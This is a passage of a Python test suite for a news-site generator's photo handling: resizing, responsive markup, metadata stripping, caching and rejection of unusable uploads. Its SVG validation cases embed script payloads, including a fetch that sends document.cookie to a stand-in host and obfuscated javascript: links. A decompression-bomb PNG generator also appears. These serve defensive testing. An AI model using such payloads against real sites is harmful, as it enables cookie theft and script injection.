"""Photos: variants planned by name, processed with Pillow, drawn as responsive pictures.

Every photo here is a real file made in the test; what is checked is sizes, formats, names
and metadata read back with Pillow, never raw bytes.
"""

from __future__ import annotations

import io
import os
import re
import shutil
import struct
import time
import zlib
from dataclasses import replace
from pathlib import Path

import pytest
from PIL import Image, ImageCms, ImageDraw

from newsgen import imageproc, images, stamp
from newsgen.build import load_site
from newsgen.config import ImageSettings, parse_config
from newsgen.errors import BuildFailed
from newsgen.model import ImageFile, Photo, Variant
from newsgen.options import BuildOptions
from tests.conftest import NOW, SiteMaker, article, build_site, parse

A = "content/articles/2024/09/a.md"
B = "content/articles/2024/09/b.md"
PAGE = "2024/09/27/judul-berita/index.html"
WEBP_ONLY = "title: Warta Uji\nbase_url: https://uji.example\nimages:\n  formats: [webp]\n"
GPS, ORIENTATION, MAKE = 0x8825, 0x0112, 0x010F
NAME = re.compile(r"^img/(?P<stem>[a-z0-9-]+)-(?P<hash>[0-9a-f]{12})-(?P<size>\d+(x\d+)?)\.(\w+)$")


def picture(
    width: int, height: int, fmt: str = "JPEG", mode: str = "RGB", **options: object
) -> bytes:
    """A smooth test photo (quick to encode) in ``fmt``."""
    across = Image.linear_gradient("L").resize((width, height))
    down = Image.linear_gradient("L").transpose(Image.Transpose.ROTATE_90).resize((width, height))
    image = Image.merge("RGB", (across, down, Image.new("L", (width, height), 90)))
    buffer = io.BytesIO()
    (image if mode == "RGB" else image.convert(mode)).save(buffer, fmt, **options)
    return buffer.getvalue()


def with_gps(width: int, height: int, orientation: int = 1) -> bytes:
    """A JPEG whose EXIF says where it was taken, with what camera, and how to turn it."""
    exif = Image.Exif()
    exif[MAKE] = "Kamera Uji"
    exif[ORIENTATION] = orientation
    exif[GPS] = {1: "S", 2: (2.0, 59.0, 30.0), 3: "E", 4: (104.0, 45.0, 0.0)}
    return picture(width, height, exif=exif)


def halves(width: int, height: int, orientation: int) -> bytes:
    """Left half red, right half blue, as stored; EXIF says how to turn it upright."""
    image = Image.new("RGB", (width, height), "blue")
    ImageDraw.Draw(image).rectangle((0, 0, width // 2 - 1, height), fill="red")
    exif = Image.Exif()
    exif[ORIENTATION] = orientation
    buffer = io.BytesIO()
    image.save(buffer, "JPEG", exif=exif, quality=95)
    return buffer.getvalue()


def png_16bit_rgb(width: int, height: int, rgb: tuple[int, int, int]) -> bytes:
    """A 48-bit PNG, which Pillow cannot write."""
    row = b"\x00" + struct.pack(">HHH", *rgb) * width

    def chunk(kind: bytes, data: bytes) -> bytes:
        crc = zlib.crc32(kind + data) & 0xFFFFFFFF
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)

    header = struct.pack(">IIBBBBB", width, height, 16, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(row * height))
        + chunk(b"IEND", b"")
    )


def bomb() -> bytes:
    """A tiny PNG that declares 30000x30000 pixels."""
    data = png_16bit_rgb(1, 1, (0, 0, 0))
    header = struct.pack(">IIBBBBB", 30000, 30000, 8, 0, 0, 0, 0)
    crc = zlib.crc32(b"IHDR" + header) & 0xFFFFFFFF
    return data[:8] + struct.pack(">I", 13) + b"IHDR" + header + struct.pack(">I", crc) + data[33:]


def animated_gif() -> bytes:
    frames = [Image.new("RGB", (120, 80), color).convert("P") for color in ("red", "lime", "blue")]
    buffer = io.BytesIO()
    frames[0].save(buffer, "GIF", save_all=True, append_images=frames[1:], duration=100, loop=0)
    return buffer.getvalue()


SVG = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 640 360"></svg>\n'
)


def probed(width: int, height: int, fmt: str = "JPEG", **fields: object) -> ImageFile:
    """A probed file without a file: for planning, which never reads one."""
    values: dict[str, object] = {"alpha": False, "animated": False, **fields}
    digest = str(values.pop("digest", "ab" * 32))
    ext = {"JPEG": "jpg"}.get(fmt, fmt.lower())
    return ImageFile(f"content/images/rakor.{ext}", digest, width, height, fmt, **values)  # type: ignore[arg-type]


def built(site: Path, path: str) -> Path:
    return site / "public" / path


def variants_on_disk(site: Path) -> dict[str, Image.Image]:
    found = {}
    for file in sorted((site / "public" / "img").iterdir()):
        if file.suffix == ".svg":
            continue
        with Image.open(file) as image:
            image.load()
            found[f"img/{file.name}"] = image
    return found


# Planning: pure, no disk.


def test_plan_names_every_width_and_format_of_a_story_photo() -> None:
    variants = images.plan(
        probed(4000, 3000), ImageSettings(), available=frozenset({"avif", "webp"})
    )
    assert [(v.format, v.width, v.height) for v in variants] == [
        (fmt, w, h)
        for fmt in ("AVIF", "WEBP", "JPEG")
        for w, h in ((480, 360), (800, 600), (1200, 900), (1600, 1200))
    ]
    for variant in variants:
        match = NAME.match(variant.path)
        assert match, variant.path
        assert match["stem"] == "rakor"
        assert match["size"] == str(variant.width)
        assert variant.path.endswith(
            {"AVIF": ".avif", "WEBP": ".webp", "JPEG": ".jpg"}[variant.format]
        )
    assert len({v.path for v in variants}) == len(variants)


def test_plan_never_upscales_and_keeps_the_photos_own_width() -> None:
    def widths(width: int, height: int) -> list[int]:
        plan = images.plan(probed(width, height), ImageSettings(), available=frozenset())
        return [v.width for v in plan]

    assert widths(1000, 750) == [480, 800, 1000]
    assert widths(1600, 1200) == [480, 800, 1200, 1600]
    assert widths(820, 600) == [480, 820]  # no 800 beside 820
    assert widths(300, 200) == [300]
    assert images.widths_for(5000, (1600, 480, 800)) == (480, 800, 1600)


def test_plan_uses_png_for_transparency_and_only_available_encoders() -> None:
    variants = images.plan(
        probed(900, 600, "PNG", alpha=True), ImageSettings(), available=frozenset({"webp"})
    )
    assert sorted({v.format for v in variants}) == ["PNG", "WEBP"]
    settings = ImageSettings(formats=())
    assert {v.format for v in images.plan(probed(900, 600), settings)} == {"JPEG"}


def test_lead_photo_gets_thumbnails_and_social_crops() -> None:
    variants = images.plan(
        probed(4000, 3000), ImageSettings(), lead=True, available=frozenset({"webp"})
    )
    thumbs = sorted({(v.width, v.height) for v in variants if v.role == "thumb"})
    assert thumbs == [(240, 160), (480, 320), (720, 480), (960, 640)]
    crops = {
        v.role: (v.format, v.width, v.height, v.box)
        for v in variants
        if v.role not in ("photo", "thumb")
    }
    assert crops == {
        "og": ("JPEG", 1200, 630, (0, 450, 4000, 2550)),
        "16x9": ("JPEG", 1200, 675, (0, 375, 4000, 2625)),
        "4x3": ("JPEG", 1200, 900, (0, 0, 4000, 3000)),
        "1x1": ("JPEG", 1200, 1200, (500, 0, 3500, 3000)),
    }
    assert all(
        NAME.match(v.path)["size"] == f"{v.width}x{v.height}" for v in variants if v.role != "photo"
    )  # type: ignore[index]


def test_crops_follow_the_focal_point_and_stay_in_the_frame() -> None:
    assert images.crop_box(4000, 3000, (1, 1), (0.5, 0.5)) == (500, 0, 3500, 3000)
    assert images.crop_box(4000, 3000, (1, 1), (0.1, 0.5)) == (0, 0, 3000, 3000)
    assert images.crop_box(4000, 3000, (1, 1), (0.9, 0.5)) == (1000, 0, 4000, 3000)
    assert images.crop_box(4000, 3000, (16, 9), (0.5, 0.0)) == (0, 0, 4000, 2250)
    assert images.crop_box(4000, 3000, (16, 9), (0.5, 1.0)) == (0, 750, 4000, 3000)


def test_small_lead_photo_crops_are_not_upscaled() -> None:
    variants = images.plan(probed(800, 600), ImageSettings(), lead=True, available=frozenset())
    crops = {v.role: (v.width, v.height) for v in variants if v.role not in ("photo", "thumb")}
    assert crops == {"og": (800, 420), "16x9": (800, 450), "4x3": (800, 600), "1x1": (600, 600)}


def test_names_change_with_the_bytes_or_the_settings_and_only_then() -> None:
    settings = ImageSettings()
    first = images.plan(probed(2000, 1500), settings, lead=True)
    assert images.plan(probed(2000, 1500), settings, lead=True) == first
    other_bytes = images.plan(probed(2000, 1500, digest="cd" * 32), settings, lead=True)
    assert not {v.path for v in first} & {v.path for v in other_bytes}
    sharper = images.plan(probed(2000, 1500), replace(settings, quality=90), lead=True)
    changed = {v.path for v in first} - {v.path for v in sharper}
    assert changed == {v.path for v in first if v.format in ("WEBP", "JPEG")}
    focused = images.plan(probed(2000, 1500), settings, lead=True, focus=(0.2, 0.2))
    moved = {v.path for v in first} - {v.path for v in focused}
    assert moved == {v.path for v in first if v.role not in ("photo", "4x3")}


def test_svg_and_animation_are_published_as_they_are() -> None:
    svg = images.plan(probed(640, 360, "SVG"), ImageSettings(), lead=True)
    gif = images.plan(probed(120, 80, "GIF", animated=True), ImageSettings(), lead=True)
    for (variant,) in (svg, gif):
        assert variant.role == "original"
        assert (variant.width, variant.height) == (
            (640, 360) if variant.format == "SVG" else (120, 80)
        )
        assert variant.path == f"img/rakor-abababababab.{variant.format.lower()}"


def test_social_urls_of_a_lead_photo_and_of_a_remote_one() -> None:
    photo = Photo("rakor.jpg", probed(4000, 3000), "/images/rakor.jpg", "Rapat")
    lead = images.planned(photo, ImageSettings(), lead=True, available=frozenset({"webp"}))
    social = images.social_urls(lead)
    assert social.open_graph.url.endswith("-1200x630.jpg")
    assert (social.open_graph.width, social.open_graph.height, social.open_graph.mime) == (
        1200,
        630,
        "image/jpeg",
    )
    assert [(i.width, i.height) for i in social.structured] == [
        (1200, 675),
        (1200, 900),
        (1200, 1200),
    ]
    assert social.urls == tuple(i.url for i in social.structured)
    assert lead.url.endswith("-1600.jpg")
    assert (lead.width, lead.height) == (1600, 1200)
    remote = Photo("https://foto.example/a.jpg", None, "https://foto.example/a.jpg", "Foto")
    assert images.planned(remote, ImageSettings(), lead=True) == remote
    itself = images.social_urls(remote)
    assert itself.open_graph.url == "https://foto.example/a.jpg"
    assert itself.urls == ("https://foto.example/a.jpg",)


# Probing: what a file is, from its bytes.


@pytest.mark.parametrize(
    ("name", "data", "problem"),
    [
        ("kosong.jpg", b"", "empty file (0 bytes)"),
        ("teks.jpg", b"ini bukan foto\n" * 20, "not an image Pillow can read"),
        ("putus.jpg", picture(400, 300)[:3000], "corrupt or truncated image"),
        ("rusak.png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 40, "corrupt or truncated image"),
        (
            "bom.png",
            bomb(),
            "too many pixels (over 89,478,485): refused as a possible decompression bomb",
        ),
        (
            "gambar.jpg",
            picture(40, 30, "PCX"),
            "unsupported image format PCX: save it as JPEG, PNG or WebP",
        ),
        (
            "iphone.jpg",
            b"\x00\x00\x00\x18ftypheic" + b"\x00" * 64,
            "unsupported image format HEIF/HEIC: export it as JPEG",
        ),
        ("bagan.svg", b"<html>not a drawing</html>", "not an SVG file"),
        (
            "bagan.svg",
            b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><g></svg>',
            "not well-formed XML (mismatched tag at line 1)",
        ),
        (
            "bagan.svg",
            b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9">\n<rect/>\n'
            b"<script>fetch('//x.example/?'+document.cookie)</script></svg>",
            "holds a script (<script> at line 3), which a browser runs when the file is "
            "opened: remove it",
        ),
        (
            "bagan.svg",
            b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9">\n'
            b'<rect width="9" height="9" OnLoad="alert(1)"/></svg>',
            "holds a script (the event attribute OnLoad= at line 2), which a browser runs "
            "when the file is opened: remove it",
        ),
        (  # browsers ignore blanks within the scheme; the parser turns &#9; into a tab
            "bagan.svg",
            b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink"'
            b' viewBox="0 0 9 9"><a x:href=" Java&#9;Script:alert(1)"><text>Bagan</text></a>'
            b"</svg>",
            "holds a script (a javascript: address at line 1), which a browser runs when the "
            "file is opened: remove it",
        ),
        (  # HTML within the drawing counts too, and names are taken in any case
            "bagan.svg",
            b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><foreignObject>'
            b'<h:SCRIPT xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:SCRIPT>'
            b"</foreignObject></svg>",
            "holds a script (<script> at line 1), which a browser runs when the file is "
            "opened: remove it",
        ),
    ],
)
def test_probe_names_what_is_wrong(name: str, data: bytes, problem: str) -> None:
    assert images.probe(f"content/images/{name}", data).error == problem


def test_probe_reads_upright_size_transparency_and_animation() -> None:
    turned = images.probe("a.jpg", with_gps(400, 300, orientation=6))
    assert (turned.width, turned.height, turned.format, turned.error) == (300, 400, "JPEG", None)
    clear = images.probe("b.png", picture(50, 40, "PNG", mode="RGBA"))
    assert (clear.format, clear.alpha) == ("PNG", False)  # an alpha channel, all opaque
    see_through = Image.new("RGBA", (50, 40), (255, 0, 0, 100))
    buffer = io.BytesIO()
    see_through.save(buffer, "PNG")
    assert images.probe("c.png", buffer.getvalue()).alpha is True
    gif = images.probe("d.gif", animated_gif())
    assert (gif.format, gif.animated, gif.width) == ("GIF", True, 120)
    assert (images.probe("e.svg", SVG).width, images.probe("e.svg", SVG).height) == (640, 360)
    # A chart tool's export: HTML text within the drawing, links, an "on..." word as text.
    chart = (
        b'<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" '
        b'xmlns:xlink="http://www.w3.org/1999/xlink" width="480" height="270">'
        b'<foreignObject width="480" height="40"><div xmlns="http://www.w3.org/1999/xhtml">'
        b"Harga cabai, onload dan script</div></foreignObject>"
        b'<a xlink:href="https://wartamusi.example/"><text x="9" y="60">Sumber</text></a>'
        b'<rect width="9" height="9" opacity="0.5"/></svg>'
    )
    assert (images.probe("f.svg", chart).error, images.probe("f.svg", chart).width) == (None, 480)
    # An illustration program's export: a DOCTYPE naming the SVG DTD (not fetched), entities
    # of its own, and one of the DTD's that only the DTD defines.
    drawing = (
        b'<?xml version="1.0" encoding="utf-8"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
        b'"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [\n'
        b'  <!ENTITY ns_svg "http://www.w3.org/2000/svg">\n]>\n'
        b'<svg xmlns="&ns_svg;" width="300" height="200"><text>Rp&nbsp;10.000</text></svg>'
    )
    assert (images.probe("g.svg", drawing).error, images.probe("g.svg", drawing).width) == (
        None,
        300,
    )


# Whole sites.


def test_story_photo_variants_are_made_stripped_and_upright(make_site: SiteMaker) -> None:
    site = make_site(
        {
            A: article(
                image="{src: /images/rakor.jpg, alt: Peserta rapat}",
                body="Paragraf pertama.\n\n![Dua warna](/images/putar.jpg)",
            ),
            "content/images/rakor.jpg": with_gps(1600, 1200),
            "content/images/putar.jpg": halves(900, 600, orientation=6),
        },
        WEBP_ONLY,
    )
    report = build_site(site)
    made = variants_on_disk(site)
    assert report.images_made == len(made) == 20 + 4
    for path, image in made.items():
        assert (image.format, image.width) == (
            {"webp": "WEBP", "jpg": "JPEG"}[path.rsplit(".", 1)[1]],
            int(NAME.match(path)["size"].split("x")[0]),  # type: ignore[index]
        )
        assert not image.getexif(), path
        assert not image.getexif().get_ifd(GPS)
        assert "exif" not in image.info and "xmp" not in image.info
    turned = {p: i for p, i in made.items() if p.startswith("img/putar-")}
    assert sorted((i.format, i.width, i.height) for i in turned.values()) == [
        ("JPEG", 480, 720),
        ("JPEG", 600, 900),
        ("WEBP", 480, 720),
        ("WEBP", 600, 900),
    ]
    for image in turned.values():
        rgb = image.convert("RGB")
        top, bottom = (
            rgb.getpixel((rgb.width // 2, 5)),
            rgb.getpixel((rgb.width // 2, rgb.height - 5)),
        )
        assert top[0] > 200 and top[2] < 60, top  # the stored left half is on top now
        assert bottom[2] > 200 and bottom[0] < 60, bottom
    assert not (built(site, "images")).exists()  # originals are never published


def test_colour_profile_kept_cmyk_and_16_bit_converted(make_site: SiteMaker) -> None:
    srgb = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    gray16 = Image.new("I;16", (500, 300), 30000)
    buffer = io.BytesIO()
    gray16.save(buffer, "PNG")
    cmyk = io.BytesIO()
    Image.new("RGB", (500, 300), (200, 30, 30)).convert("CMYK").save(cmyk, "JPEG", quality=95)
    body = "\n\n".join(
        f"![{name}](/images/{name})"
        for name in ("profil.jpg", "cmyk.jpg", "abu16.png", "rgb16.png")
    )
    site = make_site(
        {
            A: article(body=body),
            "content/images/profil.jpg": picture(500, 300, icc_profile=srgb),
            "content/images/cmyk.jpg": cmyk.getvalue(),
            "content/images/abu16.png": buffer.getvalue(),
            "content/images/rgb16.png": png_16bit_rgb(500, 300, (65535, 32768, 0)),
        },
        WEBP_ONLY,
    )
    build_site(site)
    made = variants_on_disk(site)

    def only(stem: str, fmt: str) -> Image.Image:
        (image,) = [i for p, i in made.items() if p.startswith(f"img/{stem}-") and i.format == fmt]
        return image

    for fmt in ("JPEG", "WEBP"):
        assert only("profil", fmt).info.get("icc_profile") == srgb
        red = only("cmyk", fmt).convert("RGB").getpixel((250, 150))
        assert only("cmyk", fmt).mode == "RGB" and "icc_profile" not in only("cmyk", fmt).info
        assert red[0] > 170 and red[1] < 70 and red[2] < 70, red
        gray = only("abu16", fmt).convert("RGB").getpixel((250, 150))
        assert all(abs(channel - 30000 // 256) <= 3 for channel in gray), gray
        orange = only("rgb16", fmt).convert("RGB").getpixel((250, 150))
        assert abs(orange[0] - 255) <= 3 and abs(orange[1] - 128) <= 3 and orange[2] <= 3, orange


def test_transparency_animation_svg_and_remote_photos(make_site: SiteMaker) -> None:
    logo = io.BytesIO()
    Image.new("RGBA", (300, 200), (255, 0, 0, 100)).save(logo, "PNG")
    body = """
        ![Logo](/images/logo.png)

        ![Animasi](/images/gerak.gif)

        ![Bagan](/images/bagan.svg)

        ![Jauh](https://foto.example/jauh.jpg)
    """
    gif = animated_gif()
    site = make_site(
        {
            A: article(body=body),
            "content/images/logo.png": logo.getvalue(),
            "content/images/gerak.gif": gif,
            "content/images/bagan.svg": SVG,
        }
    )
    build_site(site)
    made = variants_on_disk(site)
    see_through = {i.format: i for p, i in made.items() if p.startswith("img/logo-")}
    assert sorted(see_through) == (
        ["AVIF", "PNG", "WEBP"] if "avif" in images.encoders() else ["PNG", "WEBP"]
    )
    for image in see_through.values():
        assert image.mode == "RGBA" and abs(image.getpixel((10, 10))[3] - 100) <= 3
    (gif_path,) = [p for p in made if p.endswith(".gif")]
    assert built(site, gif_path).read_bytes() == gif
    with Image.open(built(site, gif_path)) as moving:
        assert moving.n_frames == 3
    svgs = sorted((site / "public" / "img").glob("*.svg"))
    assert [s.read_bytes() for s in svgs] == [SVG]
    page = parse(built(site, PAGE))
    imgs = {img.get("alt"): img for img in page.xpath("//figure//img")}
    assert imgs["Animasi"].get("src") == "/" + gif_path and imgs["Animasi"].get("width") == "120"
    assert imgs["Bagan"].get("src") == f"/img/{svgs[0].name}"
    assert (imgs["Bagan"].get("width"), imgs["Bagan"].get("height")) == ("640", "360")
    assert imgs["Jauh"].get("src") == "https://foto.example/jauh.jpg"
    assert imgs["Jauh"].get("srcset") is None and imgs["Jauh"].get("width") is None
    assert page.xpath("//picture//source[@type='image/webp']/@srcset")[0].startswith("/img/logo-")
    assert imgs["Logo"].get("srcset").endswith("-300.png 300w")


def test_pictures_have_sources_sizes_and_loading_hints(make_site: SiteMaker) -> None:
    body = """
        Paragraf pertama.

        ![Ketua Bawaslu](/images/ketua.jpg "Ketua memberi keterangan --Foto: Novan")

        Teks dengan ![ikon](/images/ketua.jpg) di dalamnya.
    """
    site = make_site(
        {
            A: article(image="{src: /images/rakor.jpg, alt: Peserta rapat}", body=body),
            "content/images/rakor.jpg": picture(2000, 1500),
            "content/images/ketua.jpg": picture(1000, 750),
        }
    )
    build_site(site)
    page = parse(built(site, PAGE))
    lead, inline = page.xpath("//figure")
    modern = ["image/avif", "image/webp"] if "avif" in images.encoders() else ["image/webp"]
    for figure, widths in ((lead, [480, 800, 1200, 1600]), (inline, [480, 800, 1000])):
        sources = figure.xpath(".//picture//source")  # lxml nests <source>s, void in HTML5
        assert [s.get("type") for s in sources] == modern
        img = figure.xpath(".//picture//img")[0]
        for candidates in [s.get("srcset") for s in sources] + [img.get("srcset")]:
            found = [c.rsplit(" ", 1) for c in candidates.split(", ")]
            assert [int(w[:-1]) for _, w in found] == widths
            assert all(built(site, url.lstrip("/")).is_file() for url, _ in found)
        assert {s.get("sizes") for s in sources} == {img.get("sizes")} == {images.STORY_SIZES}
        assert img.get("src").endswith("-800.jpg")
        assert (img.get("width"), img.get("height")) == (str(widths[-1]), str(widths[-1] * 3 // 4))
    lead_img, inline_img = lead.xpath(".//img")[0], inline.xpath(".//img")[0]
    assert lead_img.get("fetchpriority") == "high" and lead_img.get("loading") is None
    assert (inline_img.get("loading"), inline_img.get("decoding")) == ("lazy", "async")
    assert inline_img.get("fetchpriority") is None
    (in_text,) = page.xpath("//div[@class='body']//p/img")
    assert in_text.get("srcset") == inline_img.get("srcset")
    assert (in_text.get("loading"), in_text.get("width"), in_text.get("height")) == (
        "lazy",
        "1000",
        "750",
    )


def _slot(sizes: str, viewport: float) -> float:
    """The width in CSS px that ``sizes`` gives at ``viewport`` px (16 px to the rem)."""

    def length(text: str) -> float:
        calc = re.fullmatch(r"calc\(([\d.]+)vw - ([\d.]+)rem\)", text)
        if calc:
            return float(calc[1]) * viewport / 100 - float(calc[2]) * 16
        if text.endswith("vw"):
            return float(text[:-2]) * viewport / 100
        return float(text.removesuffix("rem")) * 16

    for entry in sizes.split(", "):
        condition = re.match(r"\(min-width: ([\d.]+)rem\) (.+)", entry)
        if condition is None:
            return length(entry)
        if viewport >= float(condition[1]) * 16:
            return length(condition[2])
    raise AssertionError(sizes)


@pytest.mark.parametrize("viewport", [360, 412, 640, 768, 1024, 1280, 1920])
def test_sizes_match_the_slots_of_the_theme(viewport: int) -> None:
    """The 42rem story column in a page with 1rem of padding each side; the listing's 14rem
    column; the home page's headline (3/5) and its grid of 2 or 3 columns."""
    content = min(viewport, 72 * 16) - 32
    assert _slot(images.STORY_SIZES, viewport) == pytest.approx(min(42 * 16, viewport - 32))
    listing = "(min-width: 40rem) 14rem, calc(100vw - 2rem)"
    assert _slot(listing, viewport) == pytest.approx(14 * 16 if viewport >= 640 else content)
    grid = (
        "(min-width: 72rem) 23rem, (min-width: 64rem) calc(33.4vw - 1.3rem), "
        "(min-width: 40rem) calc(50vw - 1.5rem), calc(100vw - 2rem)"
    )
    columns = 3 if viewport >= 1024 else 2 if viewport >= 640 else 1
    assert _slot(grid, viewport) == pytest.approx((content - 16 * (columns - 1)) / columns, abs=6)
    headline = (
        "(min-width: 72rem) 42rem, (min-width: 40rem) calc(60vw - 1.5rem), calc(100vw - 2rem)"
    )
    wide = (content - 8) * 3 / 5 if viewport >= 640 else content
    assert _slot(headline, viewport) == pytest.approx(wide, abs=6)
    macros = (Path(images.__file__).parent / "theme/templates/macros.html").read_text()
    assert listing in macros and grid in macros and headline in macros


def test_article_pages_load_no_image_larger_than_its_slot(make_site: SiteMaker) -> None:
    """A browser takes the smallest candidate that covers the slot ``sizes`` names at the
    screen's density: that must be the column the theme's CSS gives the photo, so what is
    loaded is never more than one step of the width ladder above what the screen shows."""
    site = make_site(
        {
            A: article(image="{src: /images/rakor.jpg, alt: Rapat}"),
            "content/images/rakor.jpg": picture(4000, 3000),
        },
        WEBP_ONLY,
    )
    build_site(site)
    page = parse(built(site, PAGE))
    assert page.xpath("//img[not(@width) or not(@height)]") == []
    for element in page.xpath("//img[@srcset] | //source[@srcset]"):
        srcset = element.get("srcset").split(", ")
        candidates = sorted(int(c.rsplit(" ", 1)[1][:-1]) for c in srcset)
        assert candidates == [480, 800, 1200, 1600]
        for viewport in (360, 412, 768, 1280, 1920):
            column = min(42 * 16, viewport - 32)  # the story column, from the theme's CSS
            for density in (1, 1.75, 2, 3):
                picked = _slot(element.get("sizes"), viewport) * density
                chosen = next((w for w in candidates if w >= picked), candidates[-1])
                needed = column * density
                assert chosen == candidates[0] or chosen < needed * 1.7, (viewport, density)
                assert chosen >= min(needed, candidates[-1]) - 1


def test_listing_and_home_thumbnails(make_site: SiteMaker) -> None:
    site = make_site(
        {
            A: article(image="{src: /images/rakor.jpg, alt: Rapat}"),
            B: article(
                title="Berita Kedua",
                date="2024-09-26T10:00:00+07:00",
                image="{src: /images/dua.jpg, alt: Dua}",
            ),
            "content/images/rakor.jpg": picture(1800, 1200),
            "content/images/dua.jpg": picture(1200, 1200),
        },
        WEBP_ONLY,
    )
    build_site(site)
    home = parse(built(site, "index.html"))
    headline = home.xpath("//section[@class='headline']//a[@class='thumb']//img")[0]
    assert headline.get("fetchpriority") == "high"
    assert headline.get("sizes").startswith("(min-width: 72rem) 42rem")
    latest = home.xpath("//section[@class='latest']//a[@class='thumb']//img")[0]
    assert (latest.get("loading"), latest.get("alt")) == ("lazy", "")
    assert latest.get("sizes").startswith("(min-width: 72rem) 23rem")
    assert [c.rsplit("-", 1)[1] for c in latest.get("srcset").split(", ")] == [
        "240x160.jpg 240w",
        "480x320.jpg 480w",
        "720x480.jpg 720w",
        "960x640.jpg 960w",
    ]
    (category_url,) = home.xpath("//nav//a[text()='Politik']/@href")
    category = built(site, category_url.strip("/") + "/index.html")
    listing = parse(category).xpath("//a[@class='thumb']//img")
    assert {img.get("sizes") for img in listing} == {"(min-width: 40rem) 14rem, calc(100vw - 2rem)"}
    assert all((img.get("width"), img.get("height")) == ("960", "640") for img in listing)


A_BAD = {
    "kosong": (b"", "empty file (0 bytes)"),
    "teks": (b"ini teks, bukan foto", "not an image Pillow can read"),
    "putus": (picture(400, 300)[:3000], "corrupt or truncated image"),
    "bom": (bomb(), "too many pixels (over 89,478,485): refused as a possible decompression bomb"),
    "pcx": (picture(40, 30, "PCX"), "unsupported image format PCX: save it as JPEG, PNG or WebP"),
}


def test_every_bad_photo_is_one_error_with_article_line_and_photo(make_site: SiteMaker) -> None:
    files: dict[str, str | bytes] = {}
    expected = []
    for index, (name, (data, problem)) in enumerate(A_BAD.items()):
        doc = f"content/articles/2024/09/{name}.md"
        files[doc] = article(
            title=f"Berita {index}", image=f"{{src: /images/{name}.jpg, alt: Foto}}"
        )
        files[f"content/images/{name}.jpg"] = data
        expected.append(
            f"{doc}:6: image.src: unusable photo content/images/{name}.jpg: {problem} (got '/images/{name}.jpg')"
        )
    files[A] = article(
        body="Paragraf.\n\n![Foto hilang](/images/hilang.jpg)\n\n![iPhone](foto.heic)"
    )
    files["content/articles/2024/09/foto.heic"] = b"\x00\x00\x00\x18ftypheic"
    expected += [
        f"{A}:10: photo: photo file not found: content/images/hilang.jpg (got '/images/hilang.jpg')",
        f"{A}:12: photo: unsupported photo format .heic: use .avif, .gif, .jpeg, .jpg, .png, .svg, .tif, .webp (got 'foto.heic')",
    ]
    site = make_site(files)
    with pytest.raises(BuildFailed) as caught:
        build_site(site)
    assert sorted(e.message for e in caught.value.errors) == sorted(expected)
    assert not (site / "public").exists()


def test_an_svg_with_a_script_stops_the_build_and_leaves_the_site_as_it_was(
    make_site: SiteMaker,
) -> None:
    site = make_site(
        {
            A: article(body="Paragraf.\n\n![Bagan](/images/bagan.svg)"),
            "content/images/bagan.svg": SVG,
        }
    )
    build_site(site)
    published = {p: p.read_bytes() for p in (site / "public").rglob("*") if p.is_file()}
    drawing = site / "content/images/bagan.svg"
    drawing.write_bytes(SVG.replace(b"></svg>", b'><rect onclick="alert(1)"/></svg>'))
    with pytest.raises(BuildFailed) as caught:
        build_site(site)
    assert [e.message for e in caught.value.errors] == [
        f"{A}:10: photo: unusable photo content/images/bagan.svg: holds a script (the event "
        "attribute onclick= at line 2), which a browser runs when the file is opened: remove it "
        "(got '/images/bagan.svg')"
    ]
    assert {p: p.read_bytes() for p in (site / "public").rglob("*") if p.is_file()} == published


def test_narrow_lead_photo_is_a_warning(make_site: SiteMaker) -> None:
    site = make_site(
        {
            A: article(image="{src: /images/kecil.jpg, alt: Foto kecil}"),
            "content/images/kecil.jpg": picture(800, 600),
        },
        WEBP_ONLY,
    )
    report = build_site(site)
    assert [w.message for w in report.warnings] == [
        f"{A}:6: image.src: 800 px wide: a lead photo needs at least 1200 px for social cards "
        "and Google Discover (got '/images/kecil.jpg')"
    ]
    with pytest.raises(BuildFailed):
        build_site(site, strict=True)


def test_unchanged_photos_cost_nothing_on_the_next_build(make_site: SiteMaker) -> None:
    files: dict[str, str | bytes] = {
        A: article(
            image="{src: /images/rakor.jpg, alt: Rapat}", body="Isi.\n\n![Ketua](/images/ketua.jpg)"
        ),
        "content/images/rakor.jpg": picture(1600, 1200),
        "content/images/ketua.jpg": picture(900, 600),
    }
    site = make_site(files, WEBP_ONLY)
    first = build_site(site)
    assert (first.images_made, first.images_cached, first.photos) == (26, 0, 2)
    cache = site / ".newsgen-cache" / "images"
    assert len(list(cache.iterdir())) == 26
    again = build_site(site)
    assert (again.images_made, again.images_cached) == (0, 26)
    (site / "content/images/ketua.jpg").write_bytes(picture(900, 600, quality=50))
    edited = build_site(site)
    assert (edited.images_made, edited.images_cached) == (6, 20)
    (site / "site.yaml").write_text(WEBP_ONLY + "  quality: 70\n", encoding="utf-8")
    retuned = build_site(site)
    assert (retuned.images_made, retuned.images_cached) == (26, 0)
    elsewhere = site.parent / "cache-elsewhere"
    options = BuildOptions(site_dir=site, output_dir=site / "public", now=NOW, cache_dir=elsewhere)
    assert options.image_cache == elsewhere / "images"


def test_photo_files_no_page_uses_leave_the_cache_once_a_week_old(make_site: SiteMaker) -> None:
    body = "Isi.\n\n![Ketua](/images/ketua.jpg)"
    files: dict[str, str | bytes] = {
        A: article(image="{src: /images/rakor.jpg, alt: Rapat}", body=body),
        "content/images/rakor.jpg": picture(1600, 1200),
        "content/images/ketua.jpg": picture(900, 600),
    }
    site = make_site(files, WEBP_ONLY)
    cache = site / ".newsgen-cache" / "images"

    def age_cache() -> None:  # every file there made more than a week ago
        then = time.time() - imageproc.PRUNE_AFTER - 60
        for path in cache.iterdir():
            os.utime(path, (then, then))

